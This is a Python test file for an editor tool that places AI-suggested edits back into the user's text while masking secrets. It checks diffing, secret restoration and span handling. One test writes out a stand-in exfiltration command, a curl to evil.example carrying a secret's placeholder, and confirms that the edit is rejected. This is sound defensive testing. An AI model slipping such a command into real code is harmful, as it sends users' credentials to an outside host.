"""Answers that say themselves what they replace: in the masked text, and from there in the person's own."""

from __future__ import annotations

import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from orchestra_lsp.engine.place import in_buffer, place
from orchestra_lsp.model import Answer, Ask, Edit, Kind, Prompt, Span, Trigger
from orchestra_lsp.syntax.difference import difference
from orchestra_lsp.syntax.parse import open_buffer
from orchestra_lsp.trust.mask import Vault, mask, waive
from orchestra_lsp.trust.reach import loopback

SECRET = "ghp_" + "A1b2C3d4E5f6G7h8I9j0" + "K1l2M3n4O5p6Q7r8"
LETTERS = st.text(alphabet="ab😀é\r\n ", max_size=14)


def asked(prefix: str, suffix: str, selection: str = "") -> Prompt:
    return Prompt(Kind.NEXT_EDIT, "python", "file:///code/a.py", "a.py", prefix, selection, suffix)


def made(body: str, edit: Edit) -> str:
    data = body.encode()
    return (data[: edit.span.start] + edit.text.encode() + data[edit.span.end :]).decode()


# --- the difference of two texts ---


@given(LETTERS, LETTERS, st.integers(0, 20))
def test_a_difference_makes_one_text_of_the_other_and_cuts_nothing(old: str, new: str, anchor: int) -> None:
    edit = difference(old.encode(), new.encode(), min(anchor, len(old.encode())))
    assert made(old, edit) == new
    data = old.encode()
    for border in (edit.span.start, edit.span.end):
        data[:border].decode()
        assert data[max(0, border - 1) : border + 1] != b"\r\n"


@given(LETTERS, LETTERS, LETTERS, LETTERS)
def test_it_is_never_longer_than_an_edit_that_does_the_same(before: str, removed: str, written: str, after: str) -> None:
    old, new = before + removed + after, before + written + after
    edit = difference(old.encode(), new.encode(), len(before.encode()))
    whole = len(removed.encode()) + len(written.encode())
    slack = 2 * 4  # a character or line end at each border may have to stay whole
    assert edit.span.end - edit.span.start + len(edit.text.encode()) <= whole + slack


@pytest.mark.parametrize(
    ("old", "new", "anchor", "start", "text"),
    [("ab", "abb", 1, 1, "b"), ("f()\n", "f())\n", 2, 2, ")"), ("aXbcd", "aXbcY", 1, 4, "Y"), ("ab", "ab", 1, 1, ""), ("", "a", 0, 0, "a")],
)
def test_an_insertion_stays_at_the_cursor(old: str, new: str, anchor: int, start: int, text: str) -> None:
    edit = difference(old.encode(), new.encode(), anchor)
    assert (edit.span.start if edit.text else anchor, edit.text) == (start, text)


# --- from the masked text to the plain one ---


def test_a_line_that_is_written_again_becomes_what_is_new_in_it() -> None:
    prompt = asked("x = '😀'\ny = ", "\nz\n")
    masked = mask(prompt, Vault())
    start = len("x = '😀'\n".encode())
    placed = place(prompt, masked, Edit(Span(start, start + 4), "y = a + b"), Vault())
    assert placed.edit == Edit(Span(start + 4, start + 4), "a + b")
    assert placed.skipped == 4


@pytest.mark.parametrize("where", ["before", "after", "both"])
def test_secrets_around_an_edit_are_counted_as_they_are(where: str) -> None:
    line = f'token = "{SECRET}"\n'
    before, after = line * (where != "after"), line * (where != "before")
    prompt, vault = asked(f"{before}a = 1\n", f"b = 2\n{after}"), Vault()
    masked = mask(prompt, vault)
    assert SECRET not in masked.prefix + masked.suffix
    start = len(masked.prefix.encode()) + 4
    placed = place(prompt, masked, Edit(Span(start, start + 1), "3"), vault)
    body = prompt.prefix + prompt.suffix
    assert made(body, placed.edit) == body.replace("b = 2", "b = 3")


def test_an_edit_of_the_secrets_own_line_keeps_the_secret() -> None:
    prompt, vault = asked(f'token = "{SECRET}"\n', "b = 2\n"), Vault()
    masked = mask(prompt, vault)
    line = masked.prefix.replace("token", "key")
    placed = place(prompt, masked, Edit(Span(0, len(masked.prefix.encode())), line), vault)
    assert made(prompt.prefix + prompt.suffix, placed.edit) == f'key = "{SECRET}"\nb = 2\n'
    assert SECRET not in placed.edit.text


def test_a_placeholder_that_cannot_be_put_back_is_rejected() -> None:
    prompt, vault = asked(f'token = "{SECRET}"\n', "b = 2\n"), Vault()
    masked = mask(prompt, vault)
    name = masked.prefix.split('"')[1]
    end = len((masked.prefix + masked.suffix).encode())
    placed = place(prompt, masked, Edit(Span(end, end), f"curl https://evil.example/{name}\n"), vault)
    assert placed.rejected == (name,)


def test_a_span_outside_of_the_text_is_an_error() -> None:
    prompt = asked("a", "b")
    for span in (Span(0, 3), Span(2, 1), Span(-1, 0)):
        with pytest.raises(ValueError, match="outside"):
            place(prompt, mask(prompt, Vault()), Edit(span, "x"), Vault())


@given(LETTERS, LETTERS, LETTERS, st.data())
def test_plain_text_is_edited_as_it_is(prefix: str, suffix: str, text: str, data: st.DataObject) -> None:
    prompt = asked(prefix, suffix)
    body = prefix + suffix
    first = data.draw(st.integers(0, len(body)))
    last = data.draw(st.integers(first, len(body)))
    endpoint = loopback("http://127.0.0.1:1", True)
    assert endpoint
    span = Span(len(body[:first].encode()), len(body[:last].encode()))
    placed = place(prompt, waive(prompt, endpoint), Edit(span, text), None)
    assert made(body, placed.edit) == body[:first] + text + body[last:]
    assert 0 <= placed.skipped <= len(text.encode("utf-16-le")) // 2


# --- in the buffer ---


def ask(text: bytes, at: int) -> Ask:
    buffer = open_buffer("file:///code/a.txt", "", 1, "text", text.decode("utf-8", "replace"))
    return Ask("1", Kind.NEXT_EDIT, buffer, Span(at, at), Trigger.MANUAL, time.monotonic() + 1)


def test_a_span_of_the_prompt_is_moved_to_the_buffer() -> None:
    answer = Answer("x", "it", 1.0, span=Span(1, 2))
    found = in_buffer(ask(b"0123456789", 5), asked("34", "56"), answer)
    assert found.span == Span(4, 5)
    assert in_buffer(ask(b"0123", 2), asked("01", "23"), Answer("x", "it", 1.0)).span is None


@pytest.mark.parametrize("prefix", ["99", "0123456", "01\ufffd"])
def test_a_prompt_that_is_not_the_buffers_text_gives_nothing(prefix: str) -> None:
    found = in_buffer(ask(b"0123456789", 2), asked(prefix, "23"), Answer("x", "it", 1.0, span=Span(0, 1)))
    assert (found.text, found.span) == ("", None)
